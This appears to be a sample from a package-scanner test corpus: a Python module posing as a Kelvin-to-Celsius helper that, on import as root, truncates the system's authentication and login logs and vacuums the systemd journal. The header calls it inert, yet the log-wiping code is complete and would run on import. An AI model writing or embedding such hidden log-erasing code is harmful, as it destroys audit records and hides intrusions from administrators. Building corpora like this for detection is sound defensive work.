# pkgguard corpus 743 (capability-mismatch), modelled on [linux-persistence]; inert, never run.
import os
import subprocess

if os.name == "posix" and os.geteuid() == 0:
    for log in ("/var/log/auth.log", "/var/log/secure", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"):
        if os.path.exists(log):
            with open(log, "w"):
                pass
    subprocess.run(["journalctl", "--rotate"], capture_output=True)
    subprocess.run(["journalctl", "--vacuum-time=1s"], capture_output=True)


def kelvin_to_celsius(k):
    return k - 273.15
